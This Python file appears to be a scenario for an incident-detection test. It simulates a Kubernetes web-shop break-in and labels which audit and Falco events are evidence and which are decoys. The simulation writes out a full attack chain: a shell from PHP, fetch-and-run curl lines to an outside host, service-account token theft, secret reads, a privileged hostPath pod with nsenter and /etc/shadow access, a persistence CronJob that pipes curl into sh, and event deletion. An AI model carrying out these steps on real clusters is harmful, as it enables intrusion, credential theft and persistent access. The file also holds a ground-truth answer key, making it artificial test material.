"""A web shop is broken into: a shell in a privileged web container, its token, secrets, a second node, a way back in.

Owns: the story of `attack-storefront` and which of its lines are evidence.
Leaves to others: the cluster (recording.py) and what was deployed (manifests/attack-storefront).
"""
import time
from secrets import randbelow

from falco import Process
from recording import incident

USERS = [("release-token", "release-pipeline", "pipelines"), ("support-token", "joost.verhagen", "support")]
NODES = ["quay-1", "quay-2"]
PIPELINE, SUPPORT = "127.0.0.41", "127.0.0.52"
KUBECTL = "kubectl/v1.20.15 (darwin/arm64) kubernetes/8f1e5bf"
CURL = "curl/8.5.0"
STOREFRONT = "/api/v1/namespaces/storefront"
RELEASE = "manifests/storefront.yaml"


def story(stage):
    _prepare(stage)
    stage.begin()
    stage.kubectl("release-token", PIPELINE).apply(stage.manifest(RELEASE))
    web = stage.nodes.wait_running("storefront", "catalogue-", count=2)
    stage.nodes.wait_running("storefront", "basket-")
    _support_looks(stage)
    rounds = [_metrics_round(stage)]
    time.sleep(2)
    shell = _break_in(stage, web[0])
    time.sleep(0.6)
    rounds.append(_metrics_round(stage))
    time.sleep(0.5)
    token = stage.client(web[0].token, web[0].address, CURL)
    discovery = _look_around(token)
    secrets = _take_secrets(token)
    other = next(pod.node for pod in web if pod.node != web[0].node)
    created, pod, escape = _take_second_node(stage, token, other)
    stay = _stay_and_tidy_up(token)
    _support_looks(stage)
    time.sleep(2)

    def truth(labels):
        mine = ("price-import-8w2kd", "price-refresh")
        return {"incidents": [incident(
            "storefront-break-in",
            [("Pod", "storefront", web[0].name), ("Deployment", "storefront", "catalogue"),
             ("ServiceAccount", "storefront", "catalogue"), ("Secret", "storefront", "card-gateway"),
             ("Pod", "storefront", pod.name), ("Node", None, pod.node), ("CronJob", "storefront", "price-refresh")],
            [labels.cause(RELEASE, "mounts the picture share at start",
                          "spec.template.spec.containers[0].securityContext.privileged"),
             labels.cause(RELEASE, "imports are started from the web process",
                          "spec.template.spec.automountServiceAccountToken"),
             labels.cause(RELEASE, "each supplier's price feed has a key of its own", "rules[0].resources[0]"),
             labels.cause(RELEASE, "imports run as pods of their own", "rules[1].verbs[0]")],
            [*labels.audit(*discovery, *secrets, created, *stay),
             *labels.admission(lambda request: request["name"] in mine), *labels.falco(*shell, *escape)],
            [*labels.release("release-pipeline", "catalogue"),
             *labels.audit_where(lambda event: event["objectRef"].get("subresource") == "status"
                                 and event["objectRef"]["name"] in mine)],
        )], "decoys": [place | {"why": "the metrics agent asks the API server every round"}
                       for place in labels.falco(*rounds)]}

    return truth


def _prepare(stage):
    stage.prepare(stage.kubectl("setup-token", "127.0.0.1"), "manifests/platform.yaml")
    stage.secrets("suppliers", "feed-brackwater", "feed-lowmoor", "feed-saltmarsh")
    stage.secrets("storefront", "card-gateway")
    stage.nodes.wait_running("telemetry", "metrics-agent-")


def _support_looks(stage):
    joost = stage.client("support-token", SUPPORT, KUBECTL)
    joost.ask("GET", "/apis/apps/v1/namespaces/storefront/deployments?limit=500", expect=200)
    joost.ask("GET", f"{STOREFRONT}/pods?limit=500", expect=200)


def _metrics_round(stage):
    pod, = stage.nodes.running("telemetry", "metrics-agent-")
    process = Process(pod, "/bin/metrics-agent --every=30s", "containerd-shim", "/bin/metrics-agent", user=("agent", 20300))
    line = stage.falco.contact_api_server(process, 30000 + randbelow(30000))
    agent = stage.client(pod.token, pod.address, "metrics-agent/2.9.0")
    agent.ask("GET", "/api/v1/nodes?limit=250", expect=200)
    agent.ask("GET", "/api/v1/pods?limit=250", expect=200)
    return line


def _break_in(stage, pod):
    """A hole in the web application gives a shell; from there to the token."""
    falco, lines = stage.falco, []

    def inside(command, exe, parent="sh", ancestor="php-fpm"):
        return Process(pod, command, parent, exe, ancestor)

    shell = inside("sh -c id;uname -r", "/usr/bin/dash", "php-fpm", "php-fpm")
    lines.append(falco.alert("Run shell untrusted", shell, proc__pexe="php-fpm: pool www",
                             proc__pexepath="/usr/sbin/php-fpm8.2", proc__pcmdline="php-fpm: pool www"))
    lines.append(falco.alert("Web Server Spawned Shell", shell))
    time.sleep(1.6)
    lines.append(falco.alert("Launch Ingress Remote File Copy Tools in Container",
                             inside("curl -so /tmp/kc http://203.0.113.77/kc", "/usr/bin/curl")))
    time.sleep(1.2)
    lines.append(falco.alert("Drop and execute new binary in container", inside("/tmp/kc version", "/tmp/kc"),
                             proc__exe="/tmp/kc", proc__cwd="/tmp/", evt__arg__flags="EXE_WRITABLE|EXE_UPPER_LAYER"))
    time.sleep(1.4)
    lines.append(falco.alert(
        "Read sensitive file untrusted", inside("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "/usr/bin/cat"),
        fd__name="/run/secrets/kubernetes.io/serviceaccount/token"))
    time.sleep(0.9)
    lines.append(falco.contact_api_server(inside("curl -sk https://10.96.0.1/version", "/usr/bin/curl"),
                                          30000 + randbelow(30000)))
    time.sleep(0.7)
    lines.append(falco.alert("Mount Launched in Privileged Container", inside("mount /dev/vda1 /mnt", "/usr/bin/mount")))
    return lines


def _look_around(token):
    review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "storefront"}}
    asked = token.ask("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", review, expect=201)
    time.sleep(1.3)
    return [asked]


def _take_secrets(token):
    taken = [token.ask("GET", "/api/v1/secrets", expect=200)]
    for path in ("suppliers/secrets/feed-brackwater", "suppliers/secrets/feed-lowmoor", "suppliers/secrets/feed-saltmarsh",
                 "storefront/secrets/card-gateway"):
        time.sleep(0.8)
        taken.append(token.ask("GET", f"/api/v1/namespaces/{path}", expect=200))
    return taken


def _take_second_node(stage, token, node):
    """A pod of the attacker's own on the other node, with everything of that node in it."""
    time.sleep(1.5)
    created = token.ask("POST", f"{STOREFRONT}/pods", {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "price-import-8w2kd", "labels": {"app.kubernetes.io/part-of": "storefront"}},
        "spec": {"nodeName": node, "hostPID": True, "automountServiceAccountToken": False,
                 "containers": [{"name": "import", "image": "docker.io/library/debian:12.8", "command": ["sleep", "86400"],
                                 "securityContext": {"privileged": True},
                                 "volumeMounts": [{"name": "node", "mountPath": "/node"}]}],
                 "volumes": [{"name": "node", "hostPath": {"path": "/"}}]}}, expect=201)
    pod, = stage.nodes.wait_running("storefront", "price-import-")
    time.sleep(1.5)
    lines = [stage.falco.alert("Change thread namespace", Process(
        pod, "nsenter -t 1 -m -u -i -n -p -- sh", "containerd-shim", "/usr/bin/nsenter"))]
    time.sleep(0.8)
    lines.append(stage.falco.alert("Container Access to Host Sensitive Paths", Process(
        pod, "cat /node/etc/shadow", "sh", "/usr/bin/cat"), fd__name="/node/etc/shadow"))
    return created, pod, lines


def _stay_and_tidy_up(token):
    """A cron job that comes back, and no events that tell of it."""
    time.sleep(1.2)
    job = {"apiVersion": "batch/v1beta1", "kind": "CronJob", "metadata": {"name": "price-refresh"}, "spec": {
        "schedule": "17 3 * * *", "jobTemplate": {"spec": {"template": {"spec": {
            "restartPolicy": "Never", "containers": [{
                "name": "refresh", "image": "docker.io/library/debian:12.8",
                "command": ["sh", "-c", "curl -s http://203.0.113.77/r | sh"]}]}}}}}}
    done = [token.ask("POST", "/apis/batch/v1beta1/namespaces/storefront/cronjobs", job, expect=201)]
    time.sleep(1.1)
    done.append(token.ask("DELETE", f"{STOREFRONT}/events", expect=200))
    return done

